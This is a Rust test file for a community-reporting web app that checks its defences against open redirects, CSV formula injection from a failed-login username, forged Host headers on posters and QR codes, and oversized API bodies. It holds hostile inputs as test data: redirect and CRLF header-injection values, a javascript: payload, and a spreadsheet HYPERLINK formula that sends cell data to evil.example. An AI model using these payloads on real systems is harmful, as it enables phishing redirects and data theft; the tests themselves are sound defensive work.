//! Attacks on the staff pages and the API, on SQLite and on PostgreSQL: a formula planted in
//! the audit log by a failed login, redirects off-site through `next=`, forged Host headers on
//! posters and QR codes, oversized API bodies.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common::{Client, PASSWORD, enc, user};
use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use doorstep_core::{AreaKind, Role};
use doorstep_testkit::{TestDb, both_backends};
use doorstep_web::PublicUrl;
use http_body_util::BodyExt;
use serde_json::json;
use tower::ServiceExt;

const COMMUNITY: &str = "二七区/京广路街道/祥云社区";

/// One request with optional cookie, Host and form body.
async fn send(
    app: &axum::Router,
    method: &str,
    uri: &str,
    cookie: Option<&str>,
    host: Option<&str>,
    form: Option<String>,
) -> (StatusCode, HeaderMap, String) {
    let mut req = Request::builder().method(method).uri(uri);
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    if let Some(h) = host {
        req = req.header(header::HOST, h);
    }
    if form.is_some() {
        req = req.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    }
    let req = req.body(form.map_or_else(Body::empty, Body::from)).unwrap();
    let res = app.clone().oneshot(req).await.unwrap();
    let (st, h) = (res.status(), res.headers().clone());
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    (st, h, String::from_utf8_lossy(&bytes).into_owned())
}

fn location(h: &HeaderMap) -> &str {
    h[header::LOCATION].to_str().unwrap()
}

/// `next` values a browser would follow off-site, or that break the Location header.
const OFF_SITE: [&str; 8] = [
    "/\t/example.com/x",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "http://evil.example",
    "javascript:alert(1)",
    "/x\r\nSet-Cookie: a=b",
    "/\n/evil.example",
];

both_backends!(next_never_leaves_the_site, async |db: &TestDb| {
    doorstep_testkit::demo_community(db.store.as_ref()).await;
    user(db.store.as_ref(), "admin1", Role::CommunityAdmin, COMMUNITY).await;
    let app = doorstep_web::router(db.store.clone());
    for next in OFF_SITE {
        // The language switch.
        let (st, h, _) = send(
            &app,
            "GET",
            &format!("/lang/en?next={}", enc(next)),
            None,
            None,
            None,
        )
        .await;
        assert_eq!((st, location(&h)), (StatusCode::SEE_OTHER, "/"), "{next:?}");

        // The login page keeps only a safe next, and logging in goes there.
        let (st, h, body) = send(
            &app,
            "GET",
            &format!("/login?next={}", enc(next)),
            None,
            None,
            None,
        )
        .await;
        assert_eq!(st, StatusCode::OK, "{next:?}");
        assert!(body.contains("name=\"next\" value=\"/\""), "{next:?}");
        let csrf = h[header::SET_COOKIE]
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_string();
        let token = csrf.split_once('=').unwrap().1;
        let (st, h, _) = send(
            &app,
            "POST",
            "/login",
            Some(&csrf),
            None,
            Some(format!(
                "username=admin1&password={}&csrf={token}&next={}",
                enc(PASSWORD),
                enc(next)
            )),
        )
        .await;
        assert_eq!((st, location(&h)), (StatusCode::SEE_OTHER, "/"), "{next:?}");
    }
    // A path of this site still works.
    let (_, h, _) = send(
        &app,
        "GET",
        &format!("/lang/en?next={}", enc("/search?q=x")),
        None,
        None,
        None,
    )
    .await;
    assert_eq!(location(&h), "/search?q=x");
});

both_backends!(
    a_user_name_planted_by_a_failed_login_is_inert_in_the_audit_csv,
    async |db: &TestDb| {
        let store = db.store.as_ref();
        doorstep_testkit::demo_community(store).await;
        user(store, "root", Role::Admin, "二七区").await;
        let planted = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        let mut anon = Client::new(db.store.clone());
        let (st, _, _) = anon
            .send(
                "POST",
                "/api/v1/auth/login",
                Some(json!({"username": planted, "password": "guess"})),
            )
            .await;
        assert_eq!(st, StatusCode::UNAUTHORIZED);

        anon.login("root").await;
        let cookie = format!("doorstep_session={}", anon.token.clone().unwrap());
        let (st, _, text) = send(&anon.app, "GET", "/audit.csv", Some(&cookie), None, None).await;
        assert_eq!(st, StatusCode::OK);
        let mut rdr = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<Vec<String>> = rdr
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let failed = rows.iter().find(|r| r[3] == "login_failed").unwrap();
        assert_eq!(failed[1], format!("'{planted}"));
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
);

both_backends!(posters_ignore_the_host_header, async |db: &TestDb| {
    let store = db.store.as_ref();
    let c = doorstep_testkit::demo_community(store).await;
    store
        .create_area(Some(&c.path), AreaKind::Compound, "佳纷天地")
        .await
        .unwrap();
    user(store, "admin1", Role::CommunityAdmin, COMMUNITY).await;
    let mut admin = Client::new(db.store.clone());
    admin.login("admin1").await;
    let (st, link, _) = admin
        .send(
            "POST",
            "/api/v1/report-links",
            Some(json!({"area": COMMUNITY, "purpose": "census"})),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{link}");
    let (id, token) = (
        link["id"].as_i64().unwrap(),
        link["token"].as_str().unwrap(),
    );
    let cookie = format!("doorstep_session={}", admin.token.clone().unwrap());
    let configured = doorstep_web::RouterBuilder::new(db.store.clone())
        .public_url(PublicUrl::parse("https://doorstep.example.org").unwrap())
        .build();
    for (app, base) in [
        (&configured, "https://doorstep.example.org"),
        // Without configuration (in-process), the default address, still never the Host.
        (&admin.app, "http://127.0.0.1:8080"),
    ] {
        for uri in [format!("/report-links/{id}/poster"), "/report-links".into()] {
            let (st, _, body) =
                send(app, "GET", &uri, Some(&cookie), Some("evil.example"), None).await;
            assert_eq!(st, StatusCode::OK, "{uri}");
            assert!(body.contains(&format!("{base}/r/{token}")), "{uri}: {body}");
            assert!(!body.contains("evil.example"), "{uri}");
        }
        let (_, _, svg) = send(
            app,
            "GET",
            &format!("/report-links/{id}/qr.svg"),
            Some(&cookie),
            Some("evil.example"),
            None,
        )
        .await;
        assert!(svg.contains("<svg"));
    }
    // The QR code is the configured address's, whatever the Host header says.
    let want = qrcode::QrCode::with_error_correction_level(
        format!("https://doorstep.example.org/r/{token}").as_bytes(),
        qrcode::EcLevel::H,
    )
    .unwrap()
    .render::<qrcode::render::svg::Color>()
    .min_dimensions(400, 400)
    .quiet_zone(true)
    .build();
    let (_, _, svg) = send(
        &configured,
        "GET",
        &format!("/report-links/{id}/qr.svg"),
        Some(&cookie),
        Some("evil.example"),
        None,
    )
    .await;
    assert_eq!(svg, want);
});

both_backends!(
    oversized_api_bodies_answer_413_as_json,
    async |db: &TestDb| {
        let store = db.store.as_ref();
        doorstep_testkit::demo_community(store).await;
        let app = doorstep_web::router(db.store.clone());
        // Just over the 2 MiB limit, to the public endpoint and to a logged-in one.
        let big = json!({"idempotency_key": "k", "answers": {"notes": "x".repeat(2 << 20)}});
        for (uri, ct) in [
            ("/api/v1/public/reports/nope", "application/json"),
            ("/api/v1/auth/login", "application/json"),
        ] {
            let req = Request::builder()
                .method("POST")
                .uri(uri)
                .header(header::CONTENT_TYPE, ct)
                .header(header::ACCEPT_LANGUAGE, "en")
                .body(Body::from(big.to_string()))
                .unwrap();
            let res = app.clone().oneshot(req).await.unwrap();
            assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
            let bytes = res.into_body().collect().await.unwrap().to_bytes();
            let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
            assert_eq!(v["error"], "payload_too_large", "{uri}");
            assert!(v["message"].as_str().unwrap().contains("2 MiB"), "{v}");
        }
    }
);
